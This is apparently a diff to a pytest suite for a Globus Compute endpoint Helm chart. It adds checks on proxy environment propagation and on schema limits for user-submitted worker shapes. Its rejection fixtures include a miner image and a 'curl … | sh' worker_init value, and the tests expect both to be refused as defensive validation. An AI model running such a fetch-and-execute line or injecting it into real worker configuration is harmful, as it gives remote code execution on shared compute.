@@ -25,6 +25,7 @@ from support.chartrender import (
     HelmRenderer,
     ValueSet,
     load_yaml_file,
+    proxy_env,
 )
 from support.kubeconfig import DUMMY_KUBECONFIG
 from support.paths import CHART_DIR, TESTS_DIR
@@ -35,6 +36,18 @@ PROVIDER_FILES = ("sitecustomize.py", "gce_release_provider.py")
 
 
 CASES = [(helm, name) for helm in HELM_VERSIONS for name in sorted(VALUE_SETS)]
+# What submitters pass with their tasks (user_endpoint_config) to the realwork conf, whose workerChoices
+# allow one more image, up to 8 CPUs, 32 GiB and 2 GPUs.
+ML_IMAGE = "registry.example.org/science/gce-worker-ml:4.19.0"
+SUBMISSIONS: dict[str, dict[str, Any]] = {
+    "shape": {"worker_image": ML_IMAGE, "cpu": 4, "memory_gib": 16, "gpus": 2},
+    "foreign-image": {"worker_image": "docker.io/someone/miner:latest"},
+    "too-many-cpus": {"cpu": 9},
+    "too-much-memory": {"memory_gib": 64},
+    "too-many-gpus": {"gpus": 3},
+    "unknown-variable": {"worker_init": "curl https://example.org/x | sh"},
+}
+SUBMISSION_HELMS = ("v3.8", "v4")
 
 
 def case_id(helm: str, set_name: str) -> str:
@@ -63,6 +76,18 @@ def loaded(chart: HelmRenderer, tmp_path_factory: pytest.TempPathFactory) -> dic
                 "user_opts": {},
             }
         )
+    for helm in SUBMISSION_HELMS:
+        data = chart.render_set(helm, VALUE_SETS["realwork"]).configmap["data"]
+        for name, options in SUBMISSIONS.items():
+            cases.append(
+                {
+                    "id": f"{helm}-submission-{name}",
+                    "config_yaml": data["config.yaml"],
+                    "template": data["user_config_template.yaml.j2"],
+                    "schema": json.loads(data["user_config_schema.json"]),
+                    "user_opts": options,
+                }
+            )
     kubeconfig = tmp_path_factory.mktemp("kube") / "config"
     kubeconfig.write_text(yaml.safe_dump(DUMMY_KUBECONFIG), encoding="utf-8")
     result = subprocess.run(
@@ -97,12 +122,31 @@ def expected_worker_init(values: dict[str, Any]) -> str:
     return "\n".join(lines)
 
 
+def expected_worker_env(values: dict[str, Any]) -> list[dict[str, Any]]:
+    """The proxy, then workerEnv (a plain value, or a reference Kubernetes resolves), each by name."""
+    entries: list[dict[str, Any]] = [
+        {"name": n, "value": v} for n, v in sorted(proxy_env(values).items()) if n not in values["workerEnv"]
+    ]
+    for name, value in sorted(values["workerEnv"].items()):
+        entries.append(
+            {"name": name, "valueFrom": value} if isinstance(value, dict) else {"name": name, "value": value}
+        )
+    return entries
+
+
+def expected_service_account(values: dict[str, Any], release: str) -> str | None:
+    if values["workerServiceAccountName"]:
+        return str(values["workerServiceAccountName"])
+    return f"{release}-worker" if values["rbacEnabled"] else None
+
+
 def expected_core(value_set: ValueSet) -> dict[str, Any]:
     endpoint = value_set.values["endpoint"]
     return {
         "type": "CoreEndpointConfig",
         "display_name": endpoint["displayName"] or value_set.release,
         "public": endpoint["public"],
+        "high_assurance": endpoint["highAssurance"],
         "debug": endpoint["debug"],
         "heartbeat_period": endpoint["heartbeatPeriod"],
         "amqp_port": endpoint["amqpPort"],
@@ -117,12 +161,15 @@ def expected_user(value_set: ValueSet) -> dict[str, Any]:
     release = value_set.release
     return {
         "type": "UserEndpointConfig",
+        "high_assurance": values["endpoint"]["highAssurance"],
         "engine": "GlobusComputeEngine",
+        "max_retries_on_system_failure": values["maxRetriesOnSystemFailure"],
         "executor": "HighThroughputExecutor",
         "provider": "ReleaseKubernetesProvider",
         "heartbeat_period": values["endpoint"]["heartbeatPeriod"],
         "idle_heartbeats_soft": values["endpoint"]["idleHeartbeatsSoft"],
         "idle_heartbeats_hard": values["endpoint"]["idleHeartbeatsHard"],
+        "heartbeat_threshold": values["endpoint"]["heartbeatThreshold"],
         # Only workers holding the engine's keys (the provider hands them over) may connect.
         "encrypted": True,
         "addresses": [POD_IP],
@@ -132,6 +179,7 @@ def expected_user(value_set: ValueSet) -> dict[str, Any]:
         "owner_config_map": f"{release}-workers",
         "worker_keys_secret": f"{release}-worker-keys",
         "labels": {
+            **values["workerLabels"],
             "app.kubernetes.io/name": "globus-compute-endpoint",
             "app.kubernetes.io/instance": release,
             "app.kubernetes.io/component": "worker",
@@ -143,7 +191,7 @@ def expected_user(value_set: ValueSet) -> dict[str, Any]:
         "image": expected_image(values),
         "image_pull_policy": values["image"]["pullPolicy"],
         "pod_name": f"{release}-worker",
-        "service_account_name": f"{release}-worker" if values["rbacEnabled"] else None,
+        "service_account_name": expected_service_account(values, release),
         "secret": values["imagePullSecret"] or None,
         "user_id": str(values["podSecurity"]["runAsUser"]),
         "group_id": str(values["podSecurity"]["runAsGroup"]),
@@ -159,6 +207,15 @@ def expected_user(value_set: ValueSet) -> dict[str, Any]:
         "extra_requests": values["workerExtraResources"],
         "extra_limits": values["workerExtraResources"],
         "worker_init": expected_worker_init(values),
+        "parallelism": values["parallelism"],
+        "annotations": values["workerAnnotations"] or None,
+        "worker_env": expected_worker_env(values),
+        "worker_volumes": values["workerVolumes"],
+        "worker_volume_mounts": values["workerVolumeMounts"],
+        "automount_service_account_token": values["workerAutomountServiceAccountToken"],
+        "affinity": values["workerAffinity"],
+        "priority_class_name": values["workerPriorityClassName"] or None,
+        "runtime_class_name": values["workerRuntimeClassName"] or None,
     }
 
 
@@ -220,3 +277,75 @@ def test_provider_names_what_the_chart_renders(
             # The policy that closes the workers to connections selects the pods the provider makes.
             assert policy["metadata"]["namespace"] == provider["namespace"]
             assert policy["spec"]["podSelector"]["matchLabels"].items() <= provider["labels"].items()
+
+
+@pytest.mark.parametrize("helm", HELM_VERSIONS)
+def test_proxy_reaches_the_endpoint_every_worker_manager_and_every_worker(
+    chart: HelmRenderer, loaded: dict[str, dict[str, Any]], helm: str
+) -> None:
+    values = VALUE_SETS["realwork"].values
+    expected = proxy_env(values)
+    assert set(expected) == {"HTTPS_PROXY", "https_proxy", "HTTP_PROXY", "http_proxy", "NO_PROXY", "no_proxy"}
+    rendered = chart.render_set(helm, VALUE_SETS["realwork"])
+
+    # The endpoint (the manager process) has it in its environment.
+    [container] = rendered.deployment["spec"]["template"]["spec"]["containers"]
+    env = {entry["name"]: entry.get("value") for entry in container["env"]}
+    assert {name: env.get(name) for name in expected} == expected
+    # Each user endpoint process reads user_environment.yaml into its environment (yaml.safe_load).
+    user_environment = yaml.safe_load(rendered.configmap["data"]["user_environment.yaml"])
+    assert {name: user_environment.get(name) for name in expected} == expected
+    # The provider the endpoint builds gives it to every worker pod.
+    worker_env = {
+        entry["name"]: entry.get("value") for entry in result_of(loaded, helm, "realwork")["user"]["worker_env"]
+    }
+    assert {name: worker_env.get(name) for name in expected} == expected
+
+
+@pytest.mark.parametrize("helm", HELM_VERSIONS)
+def test_without_a_proxy_no_process_gets_one(chart: HelmRenderer, helm: str) -> None:
+    rendered = chart.render_set(helm, VALUE_SETS["default"])
+    [container] = rendered.deployment["spec"]["template"]["spec"]["containers"]
+
+    assert not {entry["name"].upper() for entry in container["env"]} & {"HTTPS_PROXY", "HTTP_PROXY", "NO_PROXY"}
+    assert "user_environment.yaml" not in rendered.configmap["data"]
+
+
+@pytest.mark.parametrize("helm", SUBMISSION_HELMS)
+def test_a_submission_chooses_its_worker_shape_within_the_limits(loaded: dict[str, dict[str, Any]], helm: str) -> None:
+    expected = expected_user(VALUE_SETS["realwork"])
+    gpu = VALUE_SETS["realwork"].values["workerChoices"]["gpuResource"]
+    expected |= {
+        "image": ML_IMAGE,
+        "init_cpu": 4.0,
+        "max_cpu": 4.0,
+        "init_mem": "16384Mi",
+        "max_mem": "16384Mi",
+        "extra_requests": {gpu: "2"},
+        "extra_limits": {gpu: "2"},
+    }
+
+    assert result_of(loaded, f"{helm}-submission", "shape")["user"] == expected
+
+
+@pytest.mark.parametrize("helm", SUBMISSION_HELMS)
+@pytest.mark.parametrize(
+    ("name", "said"),
+    [
+        ("foreign-image", "'docker.io/someone/miner:latest' is not one of"),
+        ("too-many-cpus", "9 is greater than the maximum of 8"),
+        ("too-much-memory", "64 is greater than the maximum of 32"),
+        ("too-many-gpus", "3 is greater than the maximum of 2"),
+        ("unknown-variable", "Additional properties are not allowed ('worker_init' was unexpected)"),
+    ],
+)
+def test_the_endpoint_refuses_a_submission_outside_the_limits(
+    loaded: dict[str, dict[str, Any]], helm: str, name: str, said: str
+) -> None:
+    assert said in loaded[case_id(f"{helm}-submission", name)]["error"]
+
+
+def test_without_choices_a_submission_can_choose_nothing(chart: HelmRenderer) -> None:
+    schema = json.loads(chart.render_set("v4", VALUE_SETS["default"]).configmap["data"]["user_config_schema.json"])
+
+    assert schema == {"type": "object", "properties": {}, "additionalProperties": False}
